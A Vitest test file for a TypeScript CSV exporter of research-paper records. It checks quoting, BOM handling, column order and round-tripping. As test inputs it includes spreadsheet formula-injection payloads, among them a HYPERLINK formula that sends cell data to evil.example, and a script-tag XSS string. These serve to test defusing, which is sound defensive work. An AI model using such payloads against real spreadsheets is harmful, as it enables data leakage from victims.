import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS, csvCellText, toCsv } from '../../src/lib/exports/csv.ts';
import type { PaperRecord } from '../../src/lib/exports/paper-record.ts';
import { NO_METADATA } from '../../src/lib/schemas/paper.ts';
import { SHIPPED_PAPER_COUNT, shippedSurvey } from '../support/shipped-survey.ts';

/** A record whose repaired text is its listed text unless the overrides say otherwise. */
const record = (overrides: Partial<PaperRecord> = {}): PaperRecord => ({
  slug: 'model-soups',
  title: 'Model Soups',
  abstract: 'Averaging weights.',
  titleRepaired: overrides.title ?? 'Model Soups',
  abstractRepaired: overrides.abstract ?? 'Averaging weights.',
  gist: 'Averages weights.',
  topics: ['Efficiency', 'Ensembles'],
  url: 'https://example.org/papers/model-soups/',
  sources: [
    { file: '000_a.txt', line: 3 },
    { file: '001_b.txt', line: 9 },
  ],
  links: [
    { url: 'https://github.com/mlfoundations/model-soups', kind: 'code' },
    { url: 'https://example.org/soups/', kind: 'project' },
  ],
  ...NO_METADATA,
  ...overrides,
});

/** Reads the CSV back the way a careful program would: BOM-aware, strict RFC 4180. */
const readBack = (csv: string) =>
  (parse(csv, { bom: true, columns: true, relax_quotes: false }) as Record<string, string>[]).map((row) =>
    Object.fromEntries(Object.entries(row).map(([k, v]) => [k, csvCellText(v)])),
  );

const expectedRow = (r: PaperRecord) => ({
  slug: r.slug,
  title: r.titleRepaired,
  abstract: r.abstractRepaired,
  topics: r.topics.join('; '),
  url: r.url,
  sources: r.sources.map((s) => `${s.file}:${s.line}`).join('; '),
  links: r.links.map((l) => l.url).join(' '),
  authors: r.authors.map((a) => ('literal' in a ? a.literal : `${a.given} ${a.family}`)).join('; '),
  year: r.year === null ? '' : String(r.year),
  venue: r.venue ?? '',
  doi: r.doi ?? '',
  arxiv: r.arxiv ?? '',
  type: r.type ?? '',
  citekey: r.citekey ?? '',
});

describe('toCsv', () => {
  it('writes what bibliographies know in columns of their own, empty where unknown', () => {
    const [row] = readBack(
      toCsv([record({ authors: [{ family: 'Wortsman', given: 'Mitchell' }, { literal: 'OpenAI' }], year: 2022, venue: 'ICML', doi: '10.0000/test.1', arxiv: '2203.05482', type: 'inproceedings', citekey: 'wortsman2022soups' })]),
    );
    expect(row).toMatchObject({ authors: 'Mitchell Wortsman; OpenAI', year: '2022', venue: 'ICML', doi: '10.0000/test.1', arxiv: '2203.05482', type: 'inproceedings', citekey: 'wortsman2022soups' });
  });

  it('shows the title and abstract as the site does, repaired, not as the scrape had them', () => {
    const [row] = readBack(toCsv([record({ title: 'HyperZcdotZ', abstract: 'up to 5times faster', titleRepaired: 'HyperZ·Z', abstractRepaired: 'up to 5× faster' })]));
    expect(row).toMatchObject({ title: 'HyperZ·Z', abstract: 'up to 5× faster' });
  });

  it('writes a BOM, a header and one CRLF-terminated row per paper', () => {
    expect(toCsv([record()])).toBe(
      '\uFEFFslug,title,abstract,topics,url,sources,links,authors,year,venue,doi,arxiv,type,citekey\r\n' +
        'model-soups,Model Soups,Averaging weights.,Efficiency; Ensembles,https://example.org/papers/model-soups/,000_a.txt:3; 001_b.txt:9,https://github.com/mlfoundations/model-soups https://example.org/soups/,,,,,,,\r\n',
    );
  });

  it('can leave the BOM out for programs that want plain UTF-8', () => {
    expect(toCsv([record()], { bom: false }).startsWith('slug,title,')).toBe(true);
  });

  it('has the documented columns in order, even with no papers', () => {
    const columns = ['slug', 'title', 'abstract', 'topics', 'url', 'sources', 'links', 'authors', 'year', 'venue', 'doi', 'arxiv', 'type', 'citekey'];
    expect(CSV_COLUMNS).toEqual(columns);
    expect(toCsv([])).toBe(`\uFEFF${columns.join(',')}\r\n`);
  });

  it('quotes fields holding quotes, commas or line breaks, and doubles the quotes', () => {
    const csv = toCsv([record({ title: 'Say "Hi", World', abstract: 'line one\nline two\r\nthree' })], { bom: false });
    expect(csv).toContain(',"Say ""Hi"", World","line one\nline two\r\nthree",');
  });

  it('round-trips hostile text through csv-parse', () => {
    const hostile = [
      record({ title: 'Quotes "inside" and ""doubled""', abstract: 'Commas, commas,, and a trailing comma,' }),
      record({ slug: 'b', title: 'Line\nbreaks\r\nand\rreturns', abstract: '  leading and trailing spaces  ' }),
      record({ slug: 'c', title: 'Ünïcödé — “curly” 数学 🙂', abstract: '<script>alert(1)</script>; semi;colons' }),
      record({ slug: 'd', title: '', abstract: '', topics: [], sources: [], links: [] }),
    ];
    expect(readBack(toCsv(hostile))).toEqual(hostile.map(expectedRow));
  });

  it.each(['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A2)', '\tTabbed', '\r=cmd'])(
    'defuses a cell starting like a formula with an apostrophe, and csvCellText undoes it: %j',
    (danger) => {
      const csv = toCsv([record({ title: danger, abstract: danger, topics: [danger] })], { bom: false });
      const [row] = parse(csv, { columns: true }) as Record<string, string>[];
      expect(row!.title).toBe(`'${danger}`);
      expect(row!.abstract).toBe(`'${danger}`);
      expect(row!.topics).toBe(`'${danger}`);
      expect(readBack(csv)[0]!.title).toBe(danger);
    },
  );

  it('leaves formula characters alone when they are not at the start, and apostrophes alone', () => {
    const csv = toCsv([record({ title: 'A = B + C - D @ E', abstract: "'quoted' text" })], { bom: false });
    const [row] = parse(csv, { columns: true }) as Record<string, string>[];
    expect(row!.title).toBe('A = B + C - D @ E');
    expect(row!.abstract).toBe("'quoted' text");
  });

  it('round-trips every paper of the shipped seeds', () => {
    const { papers } = shippedSurvey();
    const records = papers.map(({ slug, title, abstract, sources, links }) => record({ slug, title, abstract, sources, links }));
    expect(records).toHaveLength(SHIPPED_PAPER_COUNT);
    // The corpus does exercise quoting: commas, double quotes and several sources or links in one cell.
    expect(records.filter((r) => r.abstract.includes(',')).length).toBeGreaterThan(500);
    expect(records.some((r) => /"/.test(r.title + r.abstract))).toBe(true);
    expect(records.some((r) => r.sources.length > 1) && records.some((r) => r.links.length > 1)).toBe(true);
    expect(readBack(toCsv(records))).toEqual(records.map(expectedRow));
  });
});
